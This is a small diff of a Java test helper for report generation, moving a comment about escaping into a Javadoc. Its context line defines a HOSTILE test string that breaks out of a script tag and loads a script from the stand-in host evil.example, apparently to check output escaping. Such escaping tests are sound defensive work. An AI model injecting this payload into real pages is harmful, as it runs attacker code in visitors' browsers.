@@ -1,5 +1,4 @@
 // SPDX-License-Identifier: Apache-2.0
-// Reports for tests, with texts that need escaping wherever an experiment may put any.
 package dev.threadclock.cli.lab.report;
 
 import dev.threadclock.cli.Machine;
@@ -16,6 +15,7 @@ import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
 
+/** Reports for tests, with texts that need escaping wherever an experiment may supply text. */
 final class Reports {
     static final String HOSTILE = "</script><script src=\"http://evil.example/x.js\"> {{VERDICTS}} $1 & 'x' | \"y\"";
     static final Noise QUIET = new Noise(0, 1.5, 2.25, 0.5);
